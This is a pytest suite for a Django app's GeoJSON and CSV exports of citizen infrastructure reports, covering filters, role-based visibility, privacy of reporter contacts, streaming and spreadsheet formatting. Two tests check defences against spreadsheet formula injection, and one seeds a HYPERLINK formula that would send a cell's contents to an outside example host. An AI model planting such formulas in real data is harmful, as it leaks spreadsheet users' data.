"""GET /api/v1/reports.geojson and .csv: filters, formats, roles, streaming, and GDAL reading the result."""

import csv
import datetime
import io
import json
import re
import subprocess

import psycopg2
import pytest
import time_machine
from django.db import connection
from django.db.models import F
from psycopg2.extensions import TRANSACTION_STATUS_IDLE

from forwarding import delivery
from forwarding.models import Forwarding
from reports import representation, workflow
from reports.interop import exports
from reports.models import Report, StatusChange
from tests.conftest import REPORTER_EMAIL, REPORTER_PHONE, staff_user, verified_login
from tests.conftest import make_report as report
from tests.images import GANTING_GPS

pytestmark = pytest.mark.django_db

PHONE, EMAIL = REPORTER_PHONE, REPORTER_EMAIL


def geojson(client, **params):
    response = client.get("/api/v1/reports.geojson", params)
    assert response.status_code == 200, response.content[:300]
    assert response.streaming
    return response, json.loads(b"".join(response.streaming_content))


def codes(client, **params):
    return sorted(f["properties"]["code"] for f in geojson(client, **params)[1]["features"])


@time_machine.travel(datetime.datetime(2026, 5, 20, 23, 30, tzinfo=datetime.UTC), tick=False)
def test_the_geojson_follows_rfc_7946_and_names_the_download(client):
    filed = report(with_photo=True)
    response, body = geojson(client, category="jalan")
    assert response["Content-Type"] == "application/geo+json"
    # Named by the day in Padangpanjang (already the 21st there), not on the server's clock.
    assert response["Content-Disposition"] == 'attachment; filename="laporan-2026-05-21-jalan.geojson"'
    assert body["type"] == "FeatureCollection" and "crs" not in body
    feature = body["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [GANTING_GPS[1], GANTING_GPS[0]]}
    properties = feature["properties"]
    assert properties["code"] == filed.code and properties["kelurahan"] == "Ganting"
    # The filter joins the category and its parent: the properties still read the report's own category.
    assert (properties["category"], properties["category_name"]) == ("jalan-berlubang", filed.category.name_id)
    assert properties["kecamatan_code"] == "13.74.01" and properties["crew"] == "Tim Jalan Padang Panjang Timur"
    assert feature["id"] == filed.code
    # URLs separated by spaces: a text field, which a Shapefile keeps (tests/test_geojson.py)
    assert re.fullmatch(r"http://testserver/media/photos/\d{4}/\d\d/[\w-]{22}\.jpg", properties["photos"])


def test_every_filter_and_their_combination(client):
    ganting = report()
    barat = report(lat=-0.4650, lon=100.3900, status="dikerjakan")  # Silaing Atas, Padang Panjang Barat
    light = report(slug="lampu-mati", lat=-0.4608)
    late = report(lat=-0.4609, due_date="2020-01-01")
    old = report(lat=-0.4610)
    Report.objects.filter(pk=old.pk).update(created="2025-01-15T10:00:00+07:00")
    assert codes(client, category="penerangan-jalan") == [light.code]
    assert codes(client, status="dikerjakan") == [barat.code]
    assert codes(client, kecamatan="13.74.02") == [barat.code]
    assert codes(client, kelurahan=["13.74.02.1005"]) == [barat.code]
    assert barat.code not in codes(client, kelurahan=["13.74.01.1001"])
    assert codes(client, overdue="true") == [late.code]
    assert codes(client, **{"from": "2025-01-01", "to": "2025-01-31"}) == [old.code]
    assert codes(client, bbox="100.385,-0.47,100.395,-0.46") == [barat.code]
    assert codes(client, category="jalan", kecamatan="13.74.01", **{"from": "2026-01-01"}) == sorted(
        [ganting.code, late.code])


@pytest.mark.parametrize(
    ("params", "field"),
    [({"bbox": "1,2,3"}, "bbox"), ({"kelurahan": "99.99.99.9999"}, "kelurahan"), ({"category": "jembatan"},
     "category"), ({"status": "hilang"}, "status"), ({"from": "kemarin"}, "from"), ({"kecamatan": "x"}, "kecamatan")],
)
def test_a_bad_filter_is_a_400_naming_it(client, params, field):
    response = client.get("/api/v1/reports.csv", params)
    assert response.status_code == 400 and field in response.json()


def test_visitors_get_public_reports_and_fields_planners_hidden_ones_too_dispatchers_the_name_and_nobody_the_contact(
    client, django_user_model
):
    shown, hidden = report(), report(lat=-0.4608, hidden=True)
    _, public = geojson(client)
    assert [f["properties"]["code"] for f in public["features"]] == [shown.code]
    assert "reporter_name" not in public["features"][0]["properties"]
    client.force_login(staff_user(django_user_model, "bima", "planner"))
    _, staff = geojson(client)
    assert sorted(f["properties"]["code"] for f in staff["features"]) == sorted([shown.code, hidden.code])
    assert "hidden" in staff["features"][0]["properties"]
    assert "reporter_name" not in staff["features"][0]["properties"]  # planners never see it
    verified_login(client, staff_user(django_user_model, "dewi", "dispatcher"))
    _, desk = geojson(client)
    assert desk["features"][0]["properties"]["reporter_name"] == "Siti"
    for export in (json.dumps(public), json.dumps(staff), json.dumps(desk),
                   b"".join(client.get("/api/v1/reports.csv").streaming_content).decode()):
        assert PHONE not in export and EMAIL not in export


def csv_rows(response, separator=","):
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # the byte-order mark: Excel reads UTF-8, not ANSI
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig")), delimiter=separator))


def test_the_csv_has_a_header_and_one_row_a_report_as_a_spreadsheet_reads_it(client):
    # Whole seconds, cut (not rounded) from the moment PostgreSQL keeps to the microsecond.
    late = report(due_date="2020-01-01", created=datetime.datetime(2026, 11, 28, 1, 5, 9, 987654, tzinfo=datetime.UTC))
    report(lat=-0.4608)
    response = client.get("/api/v1/reports.csv", {"status": "baru"})
    assert response["Content-Disposition"].endswith('-baru.csv"')
    table = csv_rows(response)
    assert len(table) == 2 and float(table[0]["lon"]) == pytest.approx(GANTING_GPS[1])
    first = table[0]
    assert first["kelurahan"] == "Ganting" and first["code"] == late.code
    assert first["created_wib"] == "2026-11-28T08:05:09+07:00"  # 01:05 UTC is 08:05 in Padangpanjang
    assert (first["overdue"], table[1]["overdue"]) == ("1", "0") and first["support_count"] == "0"


def test_the_excel_id_csv_writes_semicolons_decimal_commas_and_the_days_as_indonesia_reads_them(client):
    filed = report(description="Lubang; dalam, lebar", due_date="2026-12-20",
                   created=datetime.datetime(2026, 12, 6, 7, 5, 59, 999999, tzinfo=datetime.UTC),  # cut to the minute
                   fixed_at=datetime.datetime(2026, 12, 8, 19, 5, tzinfo=datetime.UTC))
    for query in ({"dialect": "excel-id"}, {"sep": ";"}):  # the older ?sep=; gets the same
        response = client.get("/api/v1/reports.csv", query)
        body = b"".join(response.streaming_content)
        assert body.startswith(b"\xef\xbb\xbf")
        (row,) = csv.DictReader(io.StringIO(body.decode("utf-8-sig")), delimiter=";")
        assert (row["lon"], row["lat"]) == tuple(str(GANTING_GPS[n]).replace(".", ",") for n in (1, 0))
        assert row["description"] == "Lubang; dalam, lebar" and row["code"] == filed.code
        assert (row["created_wib"], row["fixed_wib"], row["due_date"]) == ("06/12/2026 14:05", "09/12/2026 02:05",
                                                                           "20/12/2026")
        assert row["days_to_fix"] == "2,5" and row["closed_wib"] == ""
        # Day/month/year is the COPY's DateStyle alone: after it, in the same transaction, a date's text is ISO again.
        assert representation.one(Report.objects.filter(pk=filed.pk), F("due_date")) == "2026-12-20"
    refused = client.get("/api/v1/reports.csv", {"dialect": "excel"})
    assert refused.status_code == 400 and list(refused.json()) == ["dialect"]


def test_csv_text_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(client, django_user_model):
    report(reporter_name='=HYPERLINK("http://example.org/?"&A1,"klik")', lat=GANTING_GPS[0] - 0.0001)
    report(reporter_name="@SUM(1+1)")
    verified_login(client, staff_user(django_user_model, "dewi", "dispatcher"))
    table = csv_rows(client.get("/api/v1/reports.csv"))
    assert sorted(row["reporter_name"] for row in table) == ["'=HYPERLINK(\"http://example.org/?\"&A1,\"klik\")",
                                                              "'@SUM(1+1)"]
    assert all(float(row["lat"]) < 0 and not row["lat"].startswith("'") for row in table)  # numbers stay numbers


def test_csv_text_gets_its_apostrophe_for_each_formula_start_and_for_nothing_else(client):
    # The guard clears text from "A" up (in byte order) by one comparison and asks the rest for their first character.
    formulas = ["=1+1", "+62 812", "-5 cm", "@SUM(A1)", "\tTAB", "\rCR"]
    others = ["Jalan rusak", "12 lubang", "Édan", "[pagar]", "~", "a=b", "!", ""]
    for n, text in enumerate(formulas + others):
        filed = report(lat=GANTING_GPS[0] - n * 0.0001)
        Report.objects.filter(pk=filed.pk).update(description=text)
    written = sorted(row["description"] for row in csv_rows(client.get("/api/v1/reports.csv")))
    assert written == sorted(["'" + text for text in formulas] + others)


def test_gdal_opens_the_geojson_as_a_planners_qgis_would(client, tmp_path):
    for offset in range(3):
        report(lat=GANTING_GPS[0] - offset * 0.0001)
    path = tmp_path / "laporan.geojson"
    path.write_bytes(b"".join(client.get("/api/v1/reports.geojson").streaming_content))
    info = subprocess.run(["ogrinfo", "-ro", "-so", "-al", str(path)], capture_output=True, text=True, check=True)
    assert "Geometry: Point" in info.stdout and "Feature Count: 3" in info.stdout
    assert "kelurahan_code: String" in info.stdout and "WGS 84" in info.stdout
    assert "ERROR" not in info.stderr and "Warning" not in info.stderr


@pytest.mark.parametrize(("path", "accept"), [
    ("/api/v1/reports.csv", "text/csv"),
    ("/api/v1/reports.geojson", "application/geo+json"),
    ("/api/v1/reports.geojson?format=xml", "*/*"),
])
def test_an_export_answers_in_its_own_format_whatever_the_client_accepts(client, path, accept):
    report()
    response = client.get(path, HTTP_ACCEPT=accept)
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"].split(";")[0] == ("text/csv" if path.endswith(".csv") else "application/geo+json")


@pytest.mark.parametrize("path", ["/api/v1/reports.geojson", "/api/v1/reports.csv"])
def test_an_export_is_one_query_however_many_reports_and_photos(client, django_assert_num_queries, path):
    for offset in range(4):
        report(lat=GANTING_GPS[0] - offset * 0.0001, with_photo=offset < 2)
    # PostgreSQL writes every report's text in one COPY (copy_expert, which Django does not count): no other query.
    with django_assert_num_queries(0):
        body = b"".join(client.get(path).streaming_content)
    # Each report's code, and its URL; a feature's id is its code too.
    assert body.count(b"PP-") == (12 if path.endswith(".geojson") else 8)


def test_a_copy_is_in_primary_key_order_wherever_the_rows_lie():
    filed = [report(north=-n * 0.0001) for n in range(4)]
    Report.objects.filter(pk=filed[1].pk).update(hidden=True)
    # The first report's new version lies after the others in the table: a scan in the table's order has it last.
    Report.objects.filter(pk=filed[0].pk).update(address="Jl. Sudirman No. 2")
    # Read by the primary key's index (the whole table) or sorted by the planner (a few reports a filter lets through).
    for whole in (True, False):
        body = b"".join(representation.copied(Report.objects.public(), [F("code")], "FORMAT csv", whole))
        assert body.decode().splitlines() == [filed[n].code for n in (0, 2, 3)]


@pytest.fixture
def own_connection():
    """A connection of the test's own, in autocommit as a request's is (the test's own is in a transaction)."""
    database = psycopg2.connect(**connection.get_connection_params())
    database.autocommit = True
    yield database
    database.close()


# A COPY of PostgreSQL's own making, its rows ({} of n) made one by one as they are sent.
NUMBERS = "COPY (SELECT {} FROM (SELECT generate_series(1, {}) AS n) numbers) TO STDOUT"


def test_a_copy_comes_a_block_at_a_time_as_postgresql_writes_it(own_connection):
    with own_connection.cursor() as cursor:
        blocks = list(representation.copy_stream(cursor, NUMBERS.format("n", 300_000)))
    assert b"".join(blocks) == b"".join(b"%d\n" % n for n in range(1, 300_001))
    assert len(blocks) > 5 and all(len(block) >= representation.BLOCK for block in blocks[:-1])


def test_an_error_in_the_copy_reaches_the_reader_after_the_rows_before_it(own_connection):
    with own_connection.cursor() as cursor:
        stream = representation.copy_stream(cursor, NUMBERS.format("1 / (200000 - n)", 300_000))
        assert next(stream).startswith(b"0\n")  # the rows before the error, as they came
        with pytest.raises(psycopg2.errors.DivisionByZero):
            list(stream)
        cursor.execute("SELECT 1")
        assert cursor.fetchone() == (1,)


def test_a_reader_that_goes_away_stops_the_copy_and_leaves_the_connection_ready(own_connection):
    with own_connection.cursor() as cursor:
        cursor.execute("CREATE TEMPORARY SEQUENCE made")
        # Rows of a kilobyte: 1 GB in all, of which the sockets between PostgreSQL and here hold a few megabytes.
        stream = representation.copy_stream(cursor, NUMBERS.format("nextval('made'), repeat('x', 1000)", 1_000_000))
        assert len(next(stream)) >= representation.BLOCK
        stream.close()
        assert own_connection.info.transaction_status == TRANSACTION_STATUS_IDLE
        # PostgreSQL stopped making rows soon after the reader went away (a sequence counts them whatever happened
        # to the statement), and the connection answers its next statement.
        cursor.execute("SELECT last_value FROM made")
        assert cursor.fetchone()[0] < 100_000


@pytest.mark.django_db(transaction=True)
def test_a_download_closed_midway_stops_its_copy_and_the_worker_serves_the_next(client, own_connection):
    for offset in range(3):
        report(lat=GANTING_GPS[0] - offset * 0.0001)
    # More than the sockets between PostgreSQL and the worker hold: left alone, the COPY would wait to send the rest.
    Report.objects.update(description="Jalan berlubang. " * 300_000)
    response = client.get("/api/v1/reports.csv")
    body = iter(response.streaming_content)
    assert next(body).startswith(exports.BOM + b"lon,lat,code")
    assert len(next(body)) >= representation.BLOCK  # mid-COPY
    response.close()  # what gunicorn does when the client goes away
    # PostgreSQL said it is ready for the next statement (so it no longer shows the COPY as active, below).
    assert connection.connection.info.transaction_status == TRANSACTION_STATUS_IDLE
    with own_connection.cursor() as cursor:
        cursor.execute("SELECT state FROM pg_stat_activity WHERE pid = %s", [connection.connection.info.backend_pid])
        assert cursor.fetchone() == ("idle",)
    assert b"".join(client.get("/api/v1/reports.csv").streaming_content).count(b"PP-") == 6


def test_a_csv_python_writes_follows_the_same_rules_in_either_dialect():
    moment = datetime.datetime(2026, 11, 28, 1, 5, 9, 500000, tzinfo=datetime.UTC)
    rows = [(moment, "=HYPERLINK(1)", True, 3, 1.5), (datetime.date(2026, 12, 6), "Siti", False, -2, -0.463)]
    body = b"".join(exports.spreadsheet_stream(["when", "who", "yes", "n", "x"], rows)).decode("utf-8")
    assert body == ("\ufeffwhen,who,yes,n,x\n2026-11-28T08:05:09+07:00,'=HYPERLINK(1),1,3,1.5\n"
                    "2026-12-06,Siti,0,-2,-0.463\n")
    body = b"".join(exports.spreadsheet_stream(["when", "who", "yes", "n", "x"], rows,
                                               representation.EXCEL_ID)).decode("utf-8")
    assert body == ("\ufeffwhen;who;yes;n;x\n28/11/2026 08:05;'=HYPERLINK(1);1;3;1,5\n"
                    "06/12/2026;Siti;0;-2;-0,463\n")


def lived(filed):
    """`filed` verified, fixed and closed, merged into nothing, sent to LAPOR!: every moment of its life."""
    times = {status: datetime.datetime(2026, 12, day, 2, 0, tzinfo=datetime.UTC)
             for status, day in (("diverifikasi", 2), ("selesai", 4), ("ditutup", 5))}
    before = "baru"
    for status, moment in times.items():
        change = StatusChange.objects.create(report=filed, from_status=before, to_status=status)
        StatusChange.objects.filter(pk=change.pk).update(created=moment)
        before = status
    # The moments as reports.workflow.moved keeps them with the status (tests/test_workflow.py).
    Report.objects.filter(pk=filed.pk).update(status="ditutup", verified_at=times["diverifikasi"],
                                              fixed_at=times["selesai"], closed_at=times["ditutup"],
                                              attributes={"kedalaman": "dalam"})
    Forwarding.objects.create(report=filed, link=delivery.lapor_link(), external_id="LAPOR-4242")
    return filed


def test_the_exports_carry_the_reports_content_and_the_moments_of_its_life(client):
    filed = lived(report(created=datetime.datetime(2026, 12, 1, 2, 0, tzinfo=datetime.UTC),
                         description="Lubang dalam di depan sekolah", address="Jl. Sudirman 12"))
    merged = report(lat=-0.4608, status="duplikat", duplicate_of=filed)
    features = {f["id"]: f["properties"] for f in geojson(client)[1]["features"]}
    first = features[filed.code]
    assert (first["description"], first["address"], first["answers"]) == (
        "Lubang dalam di depan sekolah", "Jl. Sudirman 12", {"kedalaman": "dalam"})
    assert (first["created"], first["verified"], first["fixed"], first["closed"]) == (
        "2026-12-01T09:00:00+07:00", "2026-12-02T09:00:00+07:00", "2026-12-04T09:00:00+07:00",
        "2026-12-05T09:00:00+07:00")
    assert first["days_to_fix"] == 3.0 and first["lapor_tracking_id"] == "LAPOR-4242"
    assert first["url"] == f"http://testserver/laporan/{filed.code}/" and first["duplicate_of"] is None
    assert features[merged.code]["duplicate_of"] == filed.code
    assert features[merged.code]["verified"] is None and features[merged.code]["days_to_fix"] is None
    (row, other) = csv_rows(client.get("/api/v1/reports.csv"))
    assert (row["description"], row["address"], json.loads(row["answers"])) == (
        "Lubang dalam di depan sekolah", "Jl. Sudirman 12", {"kedalaman": "dalam"})
    assert (row["verified_wib"], row["fixed_wib"], row["closed_wib"], row["days_to_fix"]) == (
        "2026-12-02T09:00:00+07:00", "2026-12-04T09:00:00+07:00", "2026-12-05T09:00:00+07:00", "3.0")
    assert (row["lapor_tracking_id"], row["url"], other["duplicate_of"]) == (
        "LAPOR-4242", f"http://testserver/laporan/{filed.code}/", filed.code)


def test_a_report_reopened_after_closing_has_no_closing_time(client):
    filed = lived(report())
    workflow.reopen_by_resident(filed, "Masih berlubang.")
    (row,) = csv_rows(client.get("/api/v1/reports.csv"))
    assert row["closed_wib"] == "" and row["fixed_wib"] and row["verified_wib"]


def test_no_export_in_any_dialect_or_for_any_role_holds_a_contact_or_a_hidden_report(client, django_user_model):
    shown, hidden = lived(report(name="Rahasia Namanya")), report(lat=-0.4608, hidden=True)
    named = report(lat=-0.4609, name="Budi Terbuka", show_name=True)
    exports_of = {}
    for role in (None, "planner", "dispatcher"):
        if role == "dispatcher":
            verified_login(client, staff_user(django_user_model, "dewi", role))
        elif role:
            client.force_login(staff_user(django_user_model, "bima", role))
        for path, query in (("/api/v1/reports.geojson", {}), ("/api/v1/reports.csv", {}),
                            ("/api/v1/reports.csv", {"dialect": "excel-id"}), ("/ogcapi/collections/reports/items",
                                                                                 {"f": "json"})):
            body = b"".join(client.get(path, query).streaming_content) if path.startswith("/api") else \
                client.get(path, query).content
            exports_of[(role, path, tuple(query))] = body.decode("utf-8-sig")
    for (role, path, _), text in exports_of.items():
        assert PHONE not in text and EMAIL not in text, (role, path)
        # OGC API items are public, whoever asks; the exports give staff hidden reports, the desk the name.
        assert ("Rahasia Namanya" in text) == (role == "dispatcher" and "ogcapi" not in path), (role, path)
        assert (hidden.code in text) == (role in ("planner", "dispatcher") and "ogcapi" not in path), (role, path)
        assert shown.code in text and named.code in text and "LAPOR-4242" in text
